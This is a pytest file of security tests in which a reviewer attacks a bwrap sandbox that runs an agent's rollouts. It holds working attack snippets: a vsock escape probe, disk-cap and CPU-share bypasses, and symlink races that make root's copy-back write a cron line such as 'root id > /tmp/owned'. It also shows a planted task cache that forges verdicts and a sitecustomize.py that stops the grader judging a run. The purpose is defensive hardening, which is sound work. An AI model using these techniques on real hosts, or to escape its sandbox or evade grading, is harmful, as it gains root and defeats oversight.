"""Round 8 attacks on the sandbox (a reviewer who did not build it). Each open finding is a
strict xfail: it fails today and must start passing once the sandbox is fixed. The attacks
run in a real bwrap sandbox started as root, as the user nobody (started here with runuser),
or both, as each finding needs; a local user's part is played by nobody."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from tests.security import conftest
from tests.security.conftest import PROJECT

# As nobody, this interpreter shown in a private mount namespace (it may live under /root,
# 0700), as the other rounds' normal-user tests run it (tests/security/test_sandbox_attacks.py).
PYTHON_AS_NOBODY = [*conftest.AS_NOBODY, sys.executable]
MODES = ["root", "user"]

# One command run in the sandbox (run_command_full, bwrap), in a fresh directory under
# argv[2]; prints the command's output as JSON.
_COMMAND_RUNNER = r"""
import json, os, sys, tempfile
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from agent.sandbox import run_command_full
import agent.sandbox
from agent.tree_walk import walk
conf = json.loads(sys.argv[3])
if "cap" in conf:  # the workspace's disk cap, scaled down (no gigabyte on a shared disk)
    agent.sandbox.WORKSPACE_BYTES = conf["cap"]
if "names" in conf:  # and its number of names
    agent.sandbox.WORKSPACE_INODES = conf["names"]
cwd = Path(tempfile.mkdtemp(dir=sys.argv[2]))
run = run_command_full([sys.executable, "-c", sys.argv[4], *sys.argv[5:]], cwd, timeout_s=60, sandbox="bwrap")
disk = 0  # what the workspace's tree takes on the disk (its directories' blocks too)
for dirpath, dirnames, filenames in walk(cwd):
    for name in [*dirnames, *filenames]:
        disk += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
print(json.dumps({"exit": run.exit_code, "output": run.output[-3000:], "disk": disk}))
"""


def run_command_as(
    mode: str,
    code: str,
    *args: str,
    cap: int | None = None,
    names: int | None = None,
    base: Path | None = None,
    timeout: float = 60,
) -> dict:
    """``python -c code args`` run once in a real bwrap sandbox, started as root (``root``)
    or as the user nobody (``user``, through runuser); ``cap`` and ``names``: the workspace's
    disk cap, in bytes and in names (scaled down); ``base``: where its workspace is made."""
    if shutil.which("bwrap") is None:
        pytest.fail("bwrap is not installed")
    if os.geteuid() != 0:
        pytest.fail("these attacks run as root (and as nobody through runuser)")
    tmp = Path(tempfile.mkdtemp(prefix="sbx8-", dir=base))
    try:
        tmp.chmod(0o777)
        conf = {k: v for k, v in (("cap", cap), ("names", names)) if v is not None}
        tail = [_COMMAND_RUNNER, str(PROJECT), str(tmp), json.dumps(conf), code, *args]
        if mode == "root":
            argv = [sys.executable, "-c", *tail]
        else:
            argv = [*PYTHON_AS_NOBODY, "-c", *tail]
        env = {k: v for k, v in os.environ.items() if k not in ("REPO_AGENT_SANDBOX", "VIRTUAL_ENV")}
        cp = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, cwd=str(tmp), env=env)
        assert cp.returncode == 0, cp.stderr[-3000:]
        return json.loads(cp.stdout.strip().splitlines()[-1])
    finally:
        subprocess.run(["rm", "-rf", str(tmp)], check=False)


# sbx8-1: vsock has no network namespace: ``--unshare-net`` leaves it as it is, and the
# seccomp filter lets socket(AF_VSOCK) through. In this VM (virtio-vsock) the sandbox shares
# the vsock port space of the host's processes (a port the host holds is EADDRINUSE inside,
# and one the sandbox binds is taken from the host's services) and can connect to the
# hypervisor (CID 2): a network the sandbox was meant not to have. (Not connected here.)
VSOCK_PROBE = r"""
import socket, sys
try:
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
except OSError as e:
    print("no vsock:", e.errno)
    raise SystemExit(0)
try:
    s.bind((socket.VMADDR_CID_ANY, int(sys.argv[1])))
    print("bound the host's port")
except OSError as e:
    print("bind errno", e.errno)
"""


@pytest.mark.parametrize("mode", MODES)
def test_vsock_reaches_outside_the_sandbox(mode):
    try:
        held = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    except (AttributeError, OSError):
        pytest.skip("no AF_VSOCK on this machine: nothing to reach")
    with held:
        held.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
        port = held.getsockname()[1]
        got = run_command_as(mode, VSOCK_PROBE, str(port))
    assert "no vsock:" in got["output"], got


# sbx8-2: a normal user's disk cap counts the bytes of regular files and the number of
# names (tree_cost), never a directory's own blocks, and ext4 never shrinks a directory: a
# directory that held 20,000 long names keeps 8 MB of blocks once they are gone (hard links
# to one file: no inode spent, no data). One directory after another, the tests fill the
# host's disk at ~10 MB/s, and neither the disk watch nor the trim after the run sees a byte
# (the tree is a few empty directories); the workspace keeps them from run to run. Scaled
# down: a cap of 1 MB, 2 MB of an empty directory.
EMPTY_DIRECTORIES = r"""
import os
open("f", "w").close()
for d in range(1):
    os.mkdir(f"d{d}")
    names = [f"d{d}/" + f"{i:08d}".ljust(250, "x") for i in range(6000)]
    for n in names:
        os.link("f", n)
    for n in names:
        os.unlink(n)
"""


def test_a_normal_users_empty_directories_stay_within_the_disk_cap():
    cap = 1024**2
    got = run_command_as("user", EMPTY_DIRECTORIES, cap=cap)
    assert got["exit"] == 0 or "over its cap" in got["output"], got
    assert got["disk"] <= cap + cap // 16, got


# sbx8-3: run by a normal user, a sandbox has no cpu cgroup (none can be made), so the
# scheduler's autogroups decide its share: every setsid() starts a new one, and each gets
# a share equal to a whole neighbour's. The 250 children that each call setsid (the attack
# the root mode's cpu cgroup answers, agent/cgroups.py) still take 250 shares of the CPU
# against an honest neighbour's one when the user is not root: a neighbour's tests time out,
# its rollout judged FAIL. Scaled down (no CPU spent): 4 children, 4 more autogroups.
AUTOGROUPS = r"""
import os
groups = {open("/proc/self/autogroup").read().split()[0]}
for i in range(4):
    r, w = os.pipe()
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        os.write(w, open("/proc/self/autogroup").read().split()[0].encode())
        os._exit(0)
    os.close(w)
    groups.add(os.read(r, 100).decode())
    os.close(r)
    os.wait()
print("autogroups", len(groups))
"""


def test_a_normal_users_sandbox_gets_one_cpu_share_however_many_sessions():
    if Path("/proc/sys/kernel/sched_autogroup_enabled").read_text().strip() != "1":
        pytest.skip("no scheduler autogroups on this kernel: a session takes no share of its own")
    got = run_command_as("user", AUTOGROUPS)
    assert "autogroups 1\n" in got["output"], got


# sbx8-4: a normal user's disk watch looks at the workspace only when the filesystem's used
# blocks or inodes grew past the room left: a hard link spends no inode and ~16 bytes of
# directory, so a million names (ten times the cap of 100,000) never trip it. The run goes
# on to its timeout, and the host then walks every name three times (reclaim, tree_cost,
# trim): a run that made 430,000 links in 27 s held the host's side for 38 s more, for
# each run_tests the model calls. Scaled down: a cap of 5,000 names, 5,600 links, then up to
# 20 s of waiting for the watch to stop the run (0.6 s failed 1 run in 3 at load 11: a walk
# is spaced by its CPU cost, the keeper's included; a working watch ends it in well under 1 s).
HARD_LINKS = r"""
import os, time
open("f", "w").close()
os.mkdir("L")
for i in range(5600):
    os.link("f", f"L/{i}")
deadline = time.monotonic() + 20
while time.monotonic() < deadline:
    time.sleep(0.05)
print("not stopped")
"""


@pytest.fixture
def quiet_ext4():
    """A small ext4 filesystem of the test's own (loop-mounted): the disk watch polls the
    statvfs of the workspace's filesystem, and on the shared disk a neighbour's files trip
    it too (then it measures, and sees the links)."""
    if os.geteuid() != 0:
        pytest.fail("runs as root (it mounts a filesystem)")
    top = Path(tempfile.mkdtemp(prefix="sbx8-ext4-"))
    image, mnt = top / "fs.img", top / "mnt"
    mnt.mkdir()
    with image.open("wb") as f:
        f.truncate(64 * 1024**2)
    subprocess.run(["mkfs.ext4", "-q", "-F", str(image)], check=True, capture_output=True)
    mounted = subprocess.run(["mount", "-o", "loop", str(image), str(mnt)], capture_output=True, text=True)
    if mounted.returncode != 0:
        shutil.rmtree(top)
        pytest.skip(f"no loop-mounted ext4 here: {mounted.stderr.strip()}")
    try:
        mnt.chmod(0o1777)
        top.chmod(0o755)
        yield mnt
    finally:
        subprocess.run(["umount", str(mnt)], check=False)
        shutil.rmtree(top, ignore_errors=True)


def test_a_normal_users_hard_links_past_the_name_cap_stop_the_run(quiet_ext4):
    got = run_command_as("user", HARD_LINKS, names=5000, base=quiet_ext4)
    assert "the run was stopped" in got["output"], got
    assert "not stopped" not in got["output"], got


# sbx8-5: fallocate with FALLOC_FL_KEEP_SIZE gives a file disk blocks past its end: its size
# stays 0, and ext4 checks RLIMIT_FSIZE only for a new size. A normal user's disk watch and
# the trim after the run count sizes (tree_cost): one call held 300 MB past the 272 MB room
# of a run, never stopped, never trimmed, the workspace keeping it; one call can take the
# host's whole free disk (not tried). (Root mode: the tmpfs refuses it, EFBIG.) Scaled down:
# a cap of 1 MB, 8 MB preallocated.
PREALLOCATED = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("f", os.O_WRONLY | os.O_CREAT, 0o644)
r = libc.fallocate(fd, 1, ctypes.c_long(0), ctypes.c_long(8 * 1024 * 1024))  # FALLOC_FL_KEEP_SIZE
print("fallocate", r, os.strerror(ctypes.get_errno()) if r else "", os.fstat(fd).st_size, os.fstat(fd).st_blocks)
"""


def test_a_normal_users_preallocated_blocks_stay_within_the_disk_cap():
    cap = 1024**2
    got = run_command_as("user", PREALLOCATED, cap=cap)
    assert got["disk"] <= cap + cap // 16, got


# sbx8-6: a file written, unlinked and held open takes its blocks until the last process of
# the run is gone; a normal user's disk watch measures the tree (tree_cost), which no longer
# names it. 300 MB held that way (five unlinked files of 60 MB, past the run's 272 MB room)
# ran on unstopped; RLIMIT_FSIZE bounds one file, not how many (1,024 descriptors in each of
# 256 processes): the host's disk can be kept full for a whole run, every neighbour and the
# host itself writing into ENOSPC (not tried). Scaled down: a cap of 1 MB, 8 MB held.
UNLINKED = r"""
import os, time
fds = []
for i in range(2):
    fd = os.open(f"u{i}", os.O_WRONLY | os.O_CREAT, 0o644)
    os.unlink(f"u{i}")  # before a byte is written: no walk ever lists it
    for _ in range(4):
        os.write(fd, b"x" * (1 << 20))
    fds.append(fd)
deadline = time.monotonic() + 0.4
while time.monotonic() < deadline:
    time.sleep(0.05)
print("not stopped")
"""


def test_a_normal_users_unlinked_files_past_the_disk_cap_stop_the_run():
    got = run_command_as("user", UNLINKED, cap=1024**2)
    assert "the run was stopped" in got["output"], got
    assert "not stopped" not in got["output"], got


# sbx8-7: a sandbox's memory limit and RLIMIT_AS are what the cgroups around the host leave
# when it starts (cgroups.enclosing_memory: room less a 64 MB margin, at least 32 MB). Under
# a service, container or session limit shared by a batch, a neighbour's memory at that
# moment sets the next sandbox's limits: with a neighbour holding 120 MB of an enclosing
# 200 MB, an honest test of 48 MB got RLIMIT_AS 32 MB and died of MemoryError, its rollout
# judged FAIL; the same run passes alone (limit 126 MB). (Here: 150 MB of 256 MB.) The neighbour's doing is the
# rollout's verdict, never "not judged".
_ENCLOSED_RUNNER = r"""
import json, sys, tempfile
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from agent.sandbox import SandboxError, run_command_full
neighbour = bytearray(int(sys.argv[3]) * 2**20)  # another rollout's memory in the same enclosing cgroup
neighbour[::4096] = b"x" * len(neighbour[::4096])
cwd = Path(tempfile.mkdtemp(dir=sys.argv[2]))
code = "b = bytearray(48 * 2**20); b[::4096] = b'x' * len(b[::4096]); print('ok')"
try:
    run = run_command_full([sys.executable, "-c", code], cwd, timeout_s=60, sandbox="bwrap")
    print(json.dumps({"exit": run.exit_code, "output": run.output[-1000:]}))
except SandboxError as exc:
    print(json.dumps({"not_judged": str(exc)}))
"""


def test_a_neighbours_memory_does_not_fail_an_honest_run():
    if shutil.which("bwrap") is None:
        pytest.fail("bwrap is not installed")
    if os.geteuid() != 0:
        pytest.fail("runs as root (it makes an enclosing memory cgroup)")
    top = Path("/sys/fs/cgroup/memory")
    if not (top / "cgroup.procs").is_file():
        pytest.skip("no cgroup v1 memory hierarchy to make an enclosing limit in")
    enclosing = top / f"sbx8-enclosing-{os.getpid()}"
    tmp = Path(tempfile.mkdtemp(prefix="sbx8-"))
    enclosing.mkdir()
    try:
        (enclosing / "memory.limit_in_bytes").write_text(str(256 * 2**20))
        move_in = 'echo $$ > "$0/cgroup.procs" && exec "$@"'
        argv = ["/bin/sh", "-c", move_in, str(enclosing), sys.executable, "-c", _ENCLOSED_RUNNER]
        env = {k: v for k, v in os.environ.items() if k not in ("REPO_AGENT_SANDBOX", "VIRTUAL_ENV")}
        cp = subprocess.run([*argv, str(PROJECT), str(tmp), "150"], capture_output=True, text=True, timeout=60, env=env)
        assert cp.returncode == 0, cp.stderr[-3000:]
        got = json.loads(cp.stdout.strip().splitlines()[-1])
    finally:
        subprocess.run(["rm", "-rf", str(tmp)], check=False)
        enclosing.rmdir()
    # Either the honest run passes, or the machine's shortage is nobody's verdict (not judged).
    assert "not_judged" in got or (got["exit"] == 0 and "ok" in got["output"]), got


# sbx8-8: a rollout's workspace lives under ``$TMPDIR/repo-agent-ws`` (agent/loop.py), a name
# any local user can make first: Workspace.create takes the directory whoever owns it. Its
# owner can rename root's workspace away and put a symlink in its place while the tests run:
# root mode's copy-back then empties and writes ``CappedWorkspace.workspace``, a path string,
# through the link: every file of the directory it names removed, and the tests' files
# written there as root (here: a file the rollout's conftest made). With the link pointing
# at /etc/cron.d, a local user has root. Shown on a directory of root's own.
_SWAP = r"""
import os, sys, time
ws, victim = sys.argv[1], sys.argv[2]
deadline = time.monotonic() + 30
found = None
while found is None and time.monotonic() < deadline:  # root's tests started (their copy is made)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if f"--rootdir={ws}".encode() in open(f"/proc/{pid}/cmdline", "rb").read():  # pytest's
                found = pid
        except OSError:
            pass
    time.sleep(0.01)
try:
    os.rename(ws, ws + ".moved")
    os.symlink(victim, ws)
except PermissionError:
    print("never saw the run" if found is None else "refused")  # the workspace's root is not theirs
else:
    # The copy-back comes only once every process of the run is gone: still there, in time.
    print("never saw the run" if found is None else "swapped" if os.path.exists(f"/proc/{found}") else "late")
"""

_SLOW_CONFTEST = """
import pathlib, time
pathlib.Path(__file__).with_name("planted").write_text("* * * * * root id > /tmp/owned\\n")
time.sleep(0.5)
"""


def test_a_local_user_cannot_redirect_roots_copy_back():
    from agent.sandbox import SandboxError
    from agent.suites.loading import load_suite
    from agent.workspace import Workspace

    if shutil.which("bwrap") is None:
        pytest.fail("bwrap is not installed")
    if os.geteuid() != 0:
        pytest.fail("runs as root (and as nobody through runuser)")
    tmp = Path(tempfile.mkdtemp(prefix="sbx8-"))  # a /tmp of its own: anyone may make a name there
    try:
        tmp.chmod(0o1777)
        root = tmp / "repo-agent-ws"  # made first by the local user
        subprocess.run(["runuser", "-u", "nobody", "--", "mkdir", "-m", "0755", str(root)], check=True)
        victim = tmp / "victim"
        victim.mkdir()
        (victim / "precious").write_text("root's\n")
        suite = load_suite("mini-bugs")
        try:
            ws = Workspace.create(suite, suite.task("fix_gcd"), root)
        except Exception:  # a root of another user's refused: defended
            return
        (ws.path / "conftest.py").write_text(_SLOW_CONFTEST)
        attacker = subprocess.Popen(
            [*PYTHON_AS_NOBODY, "-c", _SWAP, str(ws.path), str(victim)],
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            ws.run_tests()
        except SandboxError:  # the swapped workspace refused: what matters is the victim
            pass
        finally:
            out, _ = attacker.communicate(timeout=60)
        if out.strip() == "late":
            pytest.skip("the swap came after the run (a loaded machine): nothing shown either way")
        assert out.strip() in ("swapped", "refused"), out
        assert sorted(os.listdir(victim)) == ["precious"], sorted(os.listdir(victim))
    finally:
        subprocess.run(["rm", "-rf", str(tmp)], check=False)


# sbx8-9: sbx8-8's kind on a Ray worker: unpack_task keeps a task's files (its source and
# its reference fix) in ``$TMPDIR/repo-agent-ray-cache/<digest>``, takes the cache directory
# whoever made it, and takes ``<digest>`` as already unpacked when it is a directory. The
# digest is the pack's sha256, which anyone holding the suite computes: a local user who made
# the directory first hands root's rollouts a source and a reference fix of their own (a
# verdict forged), or reads the fixes root unpacks into their directory.
def test_a_local_user_cannot_plant_a_tasks_unpacked_files():
    from agent.suites.loading import load_suite
    from agent.task_pack import CACHE_DIR, pack_task, unpack_task

    if os.geteuid() != 0:
        pytest.fail("runs as root (and as nobody through runuser)")
    suite = load_suite("mini-bugs")
    digest, data, _ = pack_task(suite, suite.task("fix_gcd"))
    tmp = Path(tempfile.mkdtemp(prefix="sbx8-"))  # a /tmp of its own: anyone may make a name there
    try:
        tmp.chmod(0o1777)
        planted = tmp / CACHE_DIR / digest / "src"
        subprocess.run(["runuser", "-u", "nobody", "--", "mkdir", "-p", str(planted)], check=True)
        subprocess.run(["runuser", "-u", "nobody", "--", "touch", str(planted / "gcd.py")], check=True)
        try:
            got = unpack_task(digest, data, root=tmp)
        except Exception:  # a cache of another user's refused: defended
            return
        assert os.lstat(got).st_uid == os.geteuid(), "the task's files are in a directory of another user's"
        assert (got / "src" / "gcd.py").read_bytes() != b"", "the task's source is the other user's"
    finally:
        subprocess.run(["rm", "-rf", str(tmp)], check=False)


# sbx8-10: root mode's copy-back gives the workspace's files and directories the modes the
# tests set, setuid and setgid alone taken out: a directory the tests made 0777 comes back
# a world-writable directory of root's, under the rollout's workspace (/tmp/repo-agent-ws,
# 0755: any local user reaches it). It is made 0777 before its files are written into it
# (``_copy_stat`` on a directory's subdirectories, then the walk goes down), and ``_copy_data``
# opens each name with ``open(dst, "wb")``, following a link: a local user who puts a symlink
# at a name the copy has still to write has root write the tests' bytes into any file of the
# machine. Shown with 20,000 files of a cron line (two root files overwritten); here 1,000.
WORLD_WRITABLE = r"""
import os
os.mkdir("pkg")
for i in range(1000):
    with open(f"pkg/f{i:05d}", "w") as f:
        f.write("* * * * * root id > /tmp/owned\n")
os.chmod("pkg", 0o777)
"""

_PLANT_LINKS = r"""
import os, stat, sys, time
pkg, victim = sys.argv[1], sys.argv[2]
deadline = time.monotonic() + 30
while time.monotonic() < deadline:  # the copy-back made pkg (0777 at once, before the fix)
    if os.path.isdir(pkg):
        break
    time.sleep(0.001)
made, refused = 0, 0
for name, target in (("f00999", "a"), ("f00000", "b")):
    try:
        os.symlink(os.path.join(victim, target), os.path.join(pkg, name))
        made += 1
    except PermissionError:  # pkg is root's 0700 while root writes in it
        refused += 1
    except OSError:  # written already: too late for that name
        pass
print("refused" if refused and not made else made)
"""


def test_a_local_user_cannot_make_roots_copy_back_write_through_links():
    from agent.sandbox import SandboxError, run_command_full

    if shutil.which("bwrap") is None:
        pytest.fail("bwrap is not installed")
    if os.geteuid() != 0:
        pytest.fail("runs as root (and as nobody through runuser)")
    tmp = Path(tempfile.mkdtemp(prefix="sbx8-"))
    try:
        tmp.chmod(0o755)  # as /tmp/repo-agent-ws: root's, and any local user goes through
        ws, victim = tmp / "ws", tmp / "victim"
        ws.mkdir(mode=0o755)
        victim.mkdir()
        for name in ("a", "b"):
            (victim / name).write_text("root's\n")
        attacker = subprocess.Popen(
            [*PYTHON_AS_NOBODY, "-c", _PLANT_LINKS, str(ws / "pkg"), str(victim)],
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            run = run_command_full([sys.executable, "-c", WORLD_WRITABLE], ws, timeout_s=60, sandbox="bwrap")
        except SandboxError:  # a copy-back that refuses a name it did not make: what matters is the victim
            run = None
        finally:
            made, _ = attacker.communicate(timeout=60)
        assert run is None or run.exit_code == 0, run.output
        if made.strip() == "0":  # neither refused nor made: every name was written already
            pytest.skip("the links came after the copy (a loaded machine): nothing shown either way")
        assert [(victim / n).read_text() for n in ("a", "b")] == ["root's\n"] * 2
        mode = stat.S_IMODE(os.lstat(ws / "pkg").st_mode)
        assert not mode & stat.S_IWOTH, oct(mode)
    finally:
        subprocess.run(["rm", "-rf", str(tmp)], check=False)


# sbx8-11: the differential runner says hello "before any workspace code ran", and a run
# without the hello is the machine's failure (DifferentialError: not judged). On a task's
# own venv (agent/suites/env.py) the interpreter starts with site, whose .pth line puts the
# workspace's import roots on sys.path before site imports ``sitecustomize``: the rollout's
# sitecustomize.py runs first, and an os._exit there leaves no hello. The rollout's doing
# (config_tamper names a sitecustomize.py tampering; a ``sitecustomize/__init__.py`` package,
# imported alike, it names not at all) ends "not judged" instead: where the task has
# held-out test data, the differential runs before the tests and its error is the final
# verdict's.
def test_a_rollouts_sitecustomize_cannot_stop_the_differentials_hello():
    from agent.differential import run_calls
    from agent.suites.env import PTH_NAME, pth_text
    from agent.suites.models import DifferentialTarget

    if shutil.which("bwrap") is None:
        pytest.fail("bwrap is not installed")
    tmp = Path(tempfile.mkdtemp(prefix="sbx8-"))
    try:
        env = tmp / "env"  # a task's own venv, as agent/suites/env.py leaves it
        subprocess.run(["uv", "venv", "-q", "--python", sys.executable, str(env)], check=True)
        next(env.glob("lib/python3*/site-packages")).joinpath(PTH_NAME).write_text(pth_text(("",)))
        ws = tmp / "ws"
        ws.mkdir()
        (ws / "m.py").write_text("def f(x):\n    return x\n")
        (ws / "sitecustomize.py").write_text("import os\nos._exit(0)\n")
        target = DifferentialTarget(module="m", function="f", inputs=[[1], [2]])
        got = run_calls(ws, [target], sandbox="bwrap", python_env=env)
        assert got.hello, "the workspace's code ran before the runner's hello: not judged"
        assert got.finished and len(got.results) == 2, got  # the workspace's code is still what is called
    finally:
        subprocess.run(["rm", "-rf", str(tmp)], check=False)
